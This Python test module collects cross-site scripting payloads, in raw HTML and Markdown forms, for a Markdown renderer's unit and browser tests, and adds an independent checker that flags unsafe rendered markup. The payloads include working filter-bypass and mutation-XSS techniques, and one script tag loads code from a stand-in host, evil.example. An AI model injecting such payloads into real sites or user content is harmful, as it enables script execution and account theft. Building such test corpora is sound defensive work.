"""Script-injection attempts that user Markdown must never turn into executable markup.

Shared by the rendering unit tests and the browser tests, which put each rendered payload on a
real page and watch for a dialog. Every payload that would run script calls ``alert(1)``, so a
browser test only has to listen for that one dialog. Entries are plain strings; raw HTML and
Markdown forms are mixed on purpose, since both reach the same pipeline.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

try:
    import html5lib
except ImportError:  # bleach ships its own copy; the standalone package is optional
    from bleach._vendor import html5lib

_DATA_HTML = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

SCRIPT_ELEMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=x>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<sc\x00ript>alert(1)</sc\x00ript>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\n>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<template><script>alert(1)</script></template>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src=x onerror="&#97;lert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror  =  alert(1)>',
    "<img src=x onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<h1 onmouseover=alert(1)>x</h1>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<x onclick=alert(1)>custom element</x>",
    "<style/onload=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<abbr title=x onmouseover=alert(1)>x</abbr>",
    "<sup id=x onclick=alert(1)>1</sup>",
]

STYLES = [
    '<p style="x:expression(alert(1))">x</p>',
    '<td style="background:url(javascript:alert(1))">x</td>',
    '<span style="behavior:url(x.htc)">x</span>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
]

EMBEDDING = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<iframe src="{_DATA_HTML}"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=submit>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<BGSOUND SRC="javascript:alert(1)">',
    "<IMG SRC=javascript:alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /></svg>',
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "<p>unclosed <em>nested <a href=x>tags <div onclick=alert(1)>deep",
    '<a title="<img src=x onerror=alert(1)>" href="http://example.com">x</a>',
    '<abbr title="</abbr><script>alert(1)</script>">x</abbr>',
]

HTML_LINKS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)" target=_blank>x</a>',
    '<a href="\\u006A\\u0061vascript:alert(1)">x</a>',
    f'<a href="{_DATA_HTML}">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="http://example.com" rel="opener" target="_blank">tab-nabbing</a>',
    '<a href="javascript:alert(1)">[nested](http://example.com)</a>',
    '<a href="http://example.com">[nested](javascript:alert(1))</a>',
    '<form id="csrf"><input name="token" value="x"></form><a id="location" name="x">x</a>',
    '<div class="modal-backdrop btn" id="main">page classes</div><code class="x onload">c</code>',
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](javascript:alert%281%29)",
    f"[x]({_DATA_HTML})",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    f"![x]({_DATA_HTML})",
    '![x" onerror="alert(1)](x)',
    '![x](x "t\\" onerror=\\"alert(1)")',
    '[x](http://example.com "title\\" onmouseover=\\"alert(1)")',
    '[x](http://example.com/"><script>alert(1)</script>)',
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: <javascript:alert(1)> "t"',
    "[r]\n\n[r]: JAVASCRIPT:alert(1)",
    "<javascript:alert(1)>",
    '<http://example.com/"onmouseover="alert(1)>',
    "<alert(1)@example.com>",
    "[<img src=x onerror=alert(1)>](http://example.com)",
    '[x](#" onclick="alert(1))',
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onload=alert(1)\ncode\n```",
    '```{: onclick="alert(1)" }\ncode\n```',
    "# Heading <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '## Title {: onclick="alert(1)" }',
    'Text[^x"><script>alert(1)</script>]\n\n[^x"><script>alert(1)</script>]: note',
    "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|---|\n| [x](javascript:alert(1)) <span style="color:red">y</span> |',
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "* [x](javascript:alert(1))\n* <svg onload=alert(1)>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "`<script>alert(1)</script>` and <code><script>alert(1)</script></code>",
    "    <script>alert(1)</script>",
    "\x02klzzwxh:0\x03 <script>alert(1)</script> \x02klzzwxh:0\x03",
    "javascript:alert(1) www.example.com/<script>alert(1)</script>",
    "http://example.com/?q=<img src=x onerror=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "[TOC]\n\n# <svg onload=alert(1)>",
]

XSS_PAYLOADS: list[str] = [
    *SCRIPT_ELEMENTS,
    *EVENT_HANDLERS,
    *STYLES,
    *EMBEDDING,
    *MUTATION,
    *HTML_LINKS,
    *MARKDOWN,
]


# The oracle below is written independently of textkit.rendering on purpose: it restates what
# safe output looks like instead of trusting the renderer's own allowlist.

SAFE_TAGS = frozenset(
    {
        "p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "u", "s", "del",
        "ins", "mark", "small", "code", "pre", "kbd", "samp", "var", "blockquote", "q", "cite",
        "ul", "ol", "li", "dl", "dt", "dd", "a", "abbr", "sup", "sub", "span", "div",
        "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption",
    }
)  # fmt: skip
SAFE_ATTRIBUTES: dict[str, frozenset[str]] = {
    "a": frozenset({"href", "title", "rel", "class"}),
    "abbr": frozenset({"title"}),
    "code": frozenset({"class"}),
    "div": frozenset({"class"}),
    "li": frozenset({"id"}),
    "ol": frozenset({"start"}),
    "sup": frozenset({"id"}),
    "th": frozenset({"align", "colspan", "rowspan"}),
    "td": frozenset({"align", "colspan", "rowspan"}),
    **{f"h{level}": frozenset({"id"}) for level in range(3, 7)},
}
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
SAFE_CLASSES = {
    "a": re.compile(r"footnote-(ref|backref)\Z"),
    "div": re.compile(r"footnote\Z"),
    "code": re.compile(r"language-[\w#+.-]+\Z"),
}
EXPECTED_REL = "noopener noreferrer nofollow"

_HTML_NS = "http://www.w3.org/1999/xhtml"
_DOCUMENT_SHELL = frozenset({"html", "head", "body"})
# Browsers drop tab and newline anywhere in a URL and trim C0 controls and spaces at its ends.
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f-\x9f\u00a0\u1680\u2000-\u200b\u2028\u2029\u202f\ufeff]")
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
_RAW_TAG = re.compile(r"<\s*(/?)\s*([^\s/>]*)")


def _href_problem(href: str) -> str | None:
    compact = _URL_IGNORED.sub("", href)
    match = _SCHEME.match(compact)
    if match and match.group(1).lower() not in SAFE_SCHEMES:
        return f"href with scheme {match.group(1)!r}: {href!r}"
    if not match and ":" in re.split(r"[/?#]", compact, maxsplit=1)[0]:
        return f"href that may read as a scheme: {href!r}"
    return None


def _element_problems(element: Any, id_prefix: str) -> Iterator[str]:
    namespace, _, tag = element.tag.rpartition("}")
    namespace = namespace.lstrip("{")
    if namespace != _HTML_NS:
        yield f"foreign element {element.tag}"
        return
    if tag in _DOCUMENT_SHELL:
        return
    if tag not in SAFE_TAGS:
        yield f"element <{tag}>"
    allowed = SAFE_ATTRIBUTES.get(tag, frozenset())
    for raw_name, value in element.attrib.items():
        name = raw_name.rpartition("}")[2].lower()
        if name.startswith("on") or name == "style" or name not in allowed:
            yield f"attribute {raw_name!r} on <{tag}>"
            continue
        if name == "href":
            problem = _href_problem(value)
            if problem:
                yield problem
        elif name == "id" and not value.startswith(id_prefix):
            yield f"id without prefix: {value!r}"
        elif name == "class" and not all(SAFE_CLASSES[tag].match(token) for token in value.split()):
            yield f"class {value!r} on <{tag}>"
    if tag == "a" and "href" in element.attrib and element.attrib.get("rel") != EXPECTED_REL:
        yield f"link without rel={EXPECTED_REL!r}"


def executable_markup_problems(output: str, *, id_prefix: str = "u-") -> list[str]:
    """Everything in rendered output that is outside the safe shape; empty when it is safe.

    The output is parsed by an HTML5 parser the way a browser would (as a fragment inside a
    ``div`` and as a whole document), so markup that only becomes dangerous on re-parsing is
    judged as the browser would see it.
    """
    problems: list[str] = []
    for tree in (
        html5lib.parseFragment(output, container="div", namespaceHTMLElements=True),
        html5lib.parse(output, namespaceHTMLElements=True),
    ):
        for element in tree.iter():
            if isinstance(element.tag, str) and element.tag != "DOCUMENT_FRAGMENT":
                problems.extend(_element_problems(element, id_prefix))
    for slash, name in _RAW_TAG.findall(output):
        if name.lower() not in SAFE_TAGS:
            problems.append(f"unescaped '<{slash}{name}' in the text")
    if re.search(r"<\s*script", output, re.IGNORECASE):
        problems.append("unescaped <script")
    return sorted(set(problems))
